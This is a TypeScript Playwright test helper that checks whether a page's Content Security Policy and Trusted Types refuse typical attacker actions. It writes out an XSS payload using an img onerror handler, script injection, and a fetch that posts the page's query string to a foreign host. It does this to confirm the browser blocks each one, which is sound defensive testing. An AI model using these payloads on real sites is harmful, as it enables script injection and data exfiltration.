import type { Page } from 'playwright-core';

/** What the content policy refuses of an attack. */
export const REFUSED = [
  'trusted script',
  'trusted markup',
  'require-trusted-types-for',
  'trusted handler',
  'frame-src',
  'form-action',
  'connect-src',
  'media-src',
  'font-src',
];

/** Tries in a page what an attacker's script would try. @returns what the browser refused, and whether any script ran. */
export function attack(page: Page, foreign: string) {
  return page.evaluate(
    async ({ elsewhere, expected }) => {
      const refused: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.push(effectiveDirective),
      );
      const script = document.createElement('script');
      try {
        script.text = 'window.owned = 1';
      } catch {
        refused.push('trusted script');
      }
      const inline = document.createElement('script');
      inline.append('window.owned = 1');
      document.body.append(script, inline);
      try {
        document.createElement('div').innerHTML = '<img src=x onerror="window.owned=1">';
      } catch {
        refused.push('trusted markup');
      }
      try {
        document.body.setAttribute('onclick', 'window.owned = 1');
        document.body.click();
      } catch {
        refused.push('trusted handler');
      }
      const frame = document.createElement('iframe');
      frame.src = elsewhere;
      document.body.append(frame);
      new Audio(elsewhere).play().catch(() => undefined);
      new FontFace('foreign', `url(${elsewhere})`).load().catch(() => undefined);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = elsewhere;
      document.body.append(form);
      form.submit();
      await fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: location.search }).catch(
        () => undefined,
      );
      // The browser reports a refusal with a delay, which is longer on a busy machine.
      for (let waited = 0; waited < 5000; waited += 50) {
        if (expected.every((refusal) => refused.includes(refusal))) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return { refused, owned: Object(window).owned };
    },
    { elsewhere: foreign, expected: REFUSED },
  );
}
